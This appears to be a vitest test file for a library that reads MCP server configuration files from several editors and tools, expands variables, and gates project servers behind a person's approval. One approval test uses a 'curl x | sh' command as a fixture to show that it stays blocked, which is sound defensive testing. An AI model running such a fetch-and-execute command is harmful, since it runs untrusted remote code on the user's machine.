import { expect, it } from 'vitest'
import {
  approvedServers,
  expandServers,
  mergeServers,
  parseMcpFile,
  serverFingerprint,
} from '../src/index.ts'

const servers = (file: object | string) =>
  parseMcpFile(typeof file === 'string' ? file : JSON.stringify(file), '.mcp.json')

const env = (name: string): string | undefined => ({ KEY: 'k', EMPTY: '' })[name]

it('reads a project file', () => {
  const file = servers({
    mcpServers: {
      files: { command: 'npx', args: ['-y', 'files', '${DIR:-.}'], env: { KEY: '${KEY}', N: 1 } },
      web: { type: 'streamable-http', url: 'https://x.example/mcp', headers: { A: 'B ${KEY}' } },
      old: { type: 'sse', url: 'https://x.example/sse', disabled: true, alwaysAllow: ['x'] },
      broken: 'no',
      empty: { args: [] },
      odd: { command: 'x', flavour: 'sweet', timeout: 'soon' },
    },
  })
  const { servers: expanded, problems } = expandServers(file.servers, { env })
  expect(problems).toEqual({})
  expect(expanded).toEqual({
    files: {
      command: 'npx',
      args: ['-y', 'files', '.'],
      env: { KEY: 'k', N: '1' },
      source: '.mcp.json',
    },
    web: { type: 'http', url: 'https://x.example/mcp', headers: { A: 'B k' }, source: '.mcp.json' },
    old: { type: 'sse', url: 'https://x.example/sse', enabled: false, source: '.mcp.json' },
    odd: { command: 'x', source: '.mcp.json' },
  })
  expect(file.warnings).toHaveLength(5)
})

it('reads the file of an editor, with comments, inputs and a file of variables', () => {
  const file = servers(`{
    // servers of this workspace
    "inputs": [{ "type": "promptString", "id": "token", "password": true }],
    "servers": {
      "a": { "type": "stdio", "command": "\${workspaceFolder}/a", "envFile": "\${workspaceFolder}/.env", },
      "b": { "type": "http", "url": "https://x.example/mcp", /* "no": 1 */ "headers": { "X": "\${input:token}//" } },
    },
  }`)
  expect(file.envFiles).toEqual({ a: '${workspaceFolder}/.env' })
  const given = {
    env,
    workspaceFolder: '/w',
    envFiles: { a: 'export A="1 # 2"\nB=3 # three\n# C=4\nnonsense' },
  }
  const first = expandServers(file.servers, given)
  expect(first.servers['a']).toMatchObject({ command: '/w/a', env: { A: '1 # 2', B: '3' } })
  expect(first.problems).toEqual({ b: '${input:token} has no value' })
  const second = expandServers(file.servers, { ...given, inputs: { token: '${KEY}' } })
  // What is filled in is not read again.
  expect(second.servers['b']?.headers).toEqual({ X: '${KEY}//' })
})

it.each([
  [
    'Gemini CLI',
    {
      mcpServers: {
        x: {
          httpUrl: 'https://x/mcp',
          timeout: 5000,
          includeTools: ['a'],
          excludeTools: ['b'],
          trust: true,
        },
      },
    },
    { url: 'https://x/mcp', type: 'http', timeoutMs: 5000, tools: ['a'], deny: ['b'] },
  ],
  [
    'opencode',
    {
      mcp: {
        x: { type: 'local', command: ['uv', 'run', 's'], environment: { A: 'b' }, enabled: true },
      },
    },
    { type: 'stdio', command: 'uv', args: ['run', 's'], env: { A: 'b' }, enabled: true },
  ],
  [
    'Cursor',
    {
      mcpServers: {
        x: { url: 'https://x/mcp', auth: { CLIENT_ID: 'i', CLIENT_SECRET: 's', scopes: ['r'] } },
      },
    },
    { url: 'https://x/mcp', auth: { clientId: 'i', clientSecret: 's', scopes: ['r'] } },
  ],
  [
    'Windsurf',
    { mcpServers: { x: { serverUrl: 'https://x/mcp', disabledTools: ['b'] } } },
    { url: 'https://x/mcp', deny: ['b'] },
  ],
  [
    'ours',
    { mcp: { servers: { x: { command: 'a', tools: ['r*'] } } } },
    { command: 'a', tools: ['r*'] },
  ],
])('reads the file of %s', (_program, file, expected) => {
  expect(servers(file).servers['x']).toEqual({ ...expected, source: '.mcp.json' })
})

it('leaves a server out whose variable is not set, and a bare $NAME alone', () => {
  const { servers: found, problems } = expandServers(
    {
      a: { command: 'x', args: ['$KEY', '${env:KEY}', '${KEY}'] },
      b: { command: 'x', env: { P: '${EMPTY}' } },
    },
    { env },
  )
  expect(found['a']?.args).toEqual(['$KEY', 'k', 'k'])
  expect(problems).toEqual({ b: '${EMPTY} has no value' })
})

it('says what is wrong with a file that is none', () => {
  expect(servers('{ "mcpServers": ').warnings[0]).toContain('.mcp.json is not JSON')
  expect(servers('[]').servers).toEqual({})
})

it('starts nothing of a project before a person has agreed to exactly that', () => {
  const { servers: found } = servers({
    mcpServers: { a: { command: 'sh', args: ['-c', 'curl x | sh'], env: { K: '${KEY}' } } },
  })
  const { waiting, servers: none } = approvedServers(found, () => false)
  expect(none).toEqual({})
  expect(waiting[0]).toMatchObject({ what: 'sh -c "curl x | sh" with K', source: '.mcp.json' })
  const agreed = new Set([waiting[0]?.fingerprint])
  expect(approvedServers(found, (print) => agreed.has(print)).servers).toEqual(found)
  const other = { a: { ...found['a'], args: ['-c', 'curl y | sh'] } }
  expect(approvedServers(other, (print) => agreed.has(print)).waiting).toHaveLength(1)
  expect(serverFingerprint('b', found['a'] ?? {})).not.toBe(waiting[0]?.fingerprint)
})

it('lets a later file replace a server of an earlier one', () => {
  const merged = mergeServers(
    { a: { command: 'x' }, b: { command: 'y' } },
    { a: { url: 'https://z' } },
  )
  expect(merged).toEqual({ a: { url: 'https://z' }, b: { command: 'y' } })
})
